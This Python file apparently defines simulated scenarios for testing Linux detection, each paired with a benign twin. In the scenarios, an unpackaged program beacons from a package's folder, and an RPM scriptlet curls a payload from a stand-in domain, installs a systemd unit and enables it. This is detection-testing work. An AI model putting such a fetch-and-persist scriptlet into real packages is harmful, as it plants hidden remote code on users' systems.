# SPDX-License-Identifier: Apache-2.0
"""What a package database knows and what a package's scripts do: each trick with its honest twin."""

from engine import HOUR, MINUTE
from setup import beacon
from tales import tale
from tales.penguins import blame, package

LIBRARY = "/usr/local/lib/dbus-broker/dbusd-helper"


def _beside_a_daemon(s, owned):
    """A daemon of a package, and a program beside it, both there before the recording began."""
    s.zeek = "whole"
    host, other = s.linux(), s.linux()
    _, name, daemon, domain = package(s, "agent")
    beside = f"{daemon}-net"
    far = f"relay.{domain}" if owned else s.names.strange_domain()
    for each in (host, other):
        each.owns(name, "2.4.1-1", [daemon, f"/lib/systemd/system/{name}.service", *([beside] if owned else [])])
        each.owns("bash", "5.2.15-2", ["/bin/bash"])

    def run(h, p):
        yield from beacon(f"push.{domain}", 443, 50 * MINUTE, 65 * MINUTE)(h, p)

    def call(h, p):
        yield from beacon(far, 7443, 29 * MINUTE, 31 * MINUTE)(h, p)

    def act():
        yield 2 * HOUR
        for each in (host, other):
            each.unit(name, daemon, f"{daemon} --config /etc/{name}/agent.conf", habit=run)
        host.unit(f"{name}-net", beside, habit=call)
    s.go(act)
    return host, name, daemon, beside, far


@tale("A program in a package's folder, of which the package database knows nothing", True, days=4)
def linux_unpackaged(s):
    host, name, daemon, beside, far = _beside_a_daemon(s, False)
    folder = daemon.rsplit("/", 1)[0]
    s.root = {"name": folder, "version": None, "signer": None, "names": [folder, beside]}
    s.affected = [host]
    s.innocent.append(name)
    s.behaviours = ["unpackaged_program", "beacon"]
    s.link("the program beside the daemon", beside)
    s.link("the package whose folder it is in", name)
    s.link("whom it calls", far)


@tale("The same program, listed by the package and calling its vendor", False, days=4)
def linux_packaged_helper(s):
    _beside_a_daemon(s, True)
    s.why = "The package database lists the program, and it talks to its vendor."


def _dnf(s, script=None):
    host = s.linux()
    _, name, daemon, domain = package(s, "exporter")

    def run(h, p):
        yield from beacon(f"push.{domain}", 443, 50 * MINUTE, 65 * MINUTE)(h, p)

    def act():
        yield 4 * HOUR
        shell = yield from host.shell()
        yield 15
        yield from host.dnf(shell, name, "1.8.2-1.el9", [daemon, f"/usr/lib/systemd/system/{name}.service"],
                            f"{name}.service", script)
        yield 1
        host.unit(name, daemon, f"{daemon} --config /etc/{name}/agent.conf", habit=run)
        yield 200
        host.stop(shell)
    s.go(act)
    return host, name, daemon


@tale("A package's scriptlet fetches a program that is in no list, and a unit for it", True, days=4)
def linux_rpm_scriptlet(s):
    s.zeek = "whole"
    far = s.names.strange_domain()
    unit = "/etc/systemd/system/dbusd-helper.service"

    def call(h, p):
        yield from beacon(far, 8443, 29 * MINUTE, 31 * MINUTE)(h, p)

    def script(host, scriptlet):
        curl = host.start("/usr/bin/curl", scriptlet, f"curl -fsSL https://{far}/l/dbusd -o {LIBRARY}")
        host.connect(curl, far, 443, 700, 5_100_000)
        yield 3
        host.write(curl, LIBRARY)
        host.stop(curl)
        host.write(scriptlet, unit)
        host.brief("/usr/bin/systemctl", scriptlet, "systemctl enable --now dbusd-helper.service", 0.4)
        yield 0.3
        host.unit("dbusd-helper", LIBRARY, habit=call)
    host, name, daemon = _dnf(s, script)
    blame(s, host, name, daemon, "1.8.2-1.el9")
    s.behaviours = ["late_payload", "persistence", "beacon"]
    s.link("what the scriptlet fetched", LIBRARY)
    s.link("what starts it", unit, "dbusd-helper.service")
    s.link("whom it calls", far)


@tale("dnf installs a package whose scriptlet only starts its unit", False, days=4)
def linux_dnf_install(s):
    _dnf(s)
    s.why = "The package brought the program and its unit; the scriptlet starts what the package owns."
